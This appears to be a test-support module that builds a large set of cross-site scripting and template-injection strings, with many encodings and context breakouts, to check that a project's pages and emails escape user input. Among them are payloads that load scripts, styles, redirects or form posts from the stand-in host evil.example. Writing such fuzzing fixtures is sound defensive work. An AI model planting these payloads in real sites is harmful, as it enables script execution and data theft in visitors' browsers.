// Texts that would run as a script wherever one of our pages or letters forgot to escape what people
// type: handlers of every sort on every sort of element, behind the ends of every context, in every
// spelling. The Big List of Naughty Strings is fetched by tests/peers/naughty-strings and added.
import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";

const run = "alert(1)";

const elements = ["img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "select autofocus",
  "textarea autofocus", "marquee", "iframe", "object data=x", "math", "embed src=x", "a href=x", "button", "form", "table background=x",
  "x contenteditable tabindex=1 autofocus", "isindex type=image src=1", "dialog open", "div style=animation-name:x"];

const handlers = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onclick", "onmouseover", "onpointerenter", "onanimationstart",
  "onloadstart", "onbeforetoggle", "onpageshow", "ONERROR"];

// What ends the context that a text may stand in.
const ends = ["", "\"", "'", "\">", "'>", "</textarea>", "</title>", "</script>", "</option></select>", "</style>", "-->", "]]>", "`", "\\\"",
  "\r\n\r\n", "}}", "%}", "</td></table>", "&quot;>", "' x='"];

const cores = [`<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<img src=x onerror=${run}>`,
  `<svg/onload=${run}>`, `<iframe srcdoc="<script>parent.${run}</script>">`, `<iframe src=javascript:${run}>`, `<object data=javascript:${run}>`,
  `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example/">`, `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import'//evil.example/x.css'</style>`, `<form action=//evil.example/><button>x</button></form>`,
  `<svg><script>${run}</script></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<a href=javascript:${run}>x</a>`,
  `onfocus=${run} autofocus x=`, `<img src=//evil.example/pixel.gif>`, `<video poster=//evil.example/p.gif>`, `<input type=image src=//evil.example/i.gif>`];

const spellings = [
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#60;").replaceAll(">", "&#62;"),
  (text) => text.replaceAll("<", "&#x3c"),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text) => text.replaceAll("<", "\\x3c"),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (text) => text.replaceAll("<", "<\u0000"),
  (text) => text.replaceAll(" ", "\t"),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\n"),
  (text) => text.toUpperCase(),
  (text) => text.replaceAll("<", "<<"),
  (text) => text.replaceAll("<", "<\u200b"),
  (text) => [...text].join("\u00ad"),
];

const addresses = ["javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\u0001javascript:", "javascript&colon;", "javascript\u00a0:",
  "&#106;avascript:", "&#x6A;avascript:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4", "view-source:javascript:", "feed:javascript:",
  "//evil.example/", "\\\\evil.example\\", "https:evil.example", "http://evil.example@", "jar:javascript:"];

// What other programs' templates would run, ours among them.
const templates = ["{{ 7 * 7 }}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{% for x in y %}", "{% raw %}",
  "{{ __tera_context }}", "{{ t | safe }}", "{# x #}", "[[${alert(1)}]]", "*{alert(1)}", "@(alert(1))", "{{=<% %>=}}", "{php}alert(1){/php}"];

/** All of them, each once. */
export function hostile() {
  const script = fileURLToPath(new URL("../peers/naughty-strings", import.meta.url));
  const naughty = JSON.parse(readFileSync(execFileSync(script, { encoding: "utf8" }).trim(), "utf8"));
  const own = [
    ...elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}=${run}>`)),
    ...elements.flatMap((element) => [`"><${element} onfocus='${run}' `, `'<${element}/onload="${run}"//`]),
    ...ends.flatMap((end) => cores.map((core) => end + core)),
    ...spellings.flatMap((spell) => cores.slice(0, 10).map(spell)),
    ...addresses.flatMap((address) => [address + run, `<a href="${address}${run}">x</a>`, `[x](${address}${run})`, `![x](${address}${run})`]),
    ...templates.flatMap((template) => [template, `<p>${template}</p>`]),
  ];
  return [...new Set([...own, ...naughty.filter((text) => text.trim())])];
}

/** The same text without what markup is made of: what a page shows of it has the same shape. */
export const harmless = (text) => text.replace(/[<>&"'`{}]/g, "x");
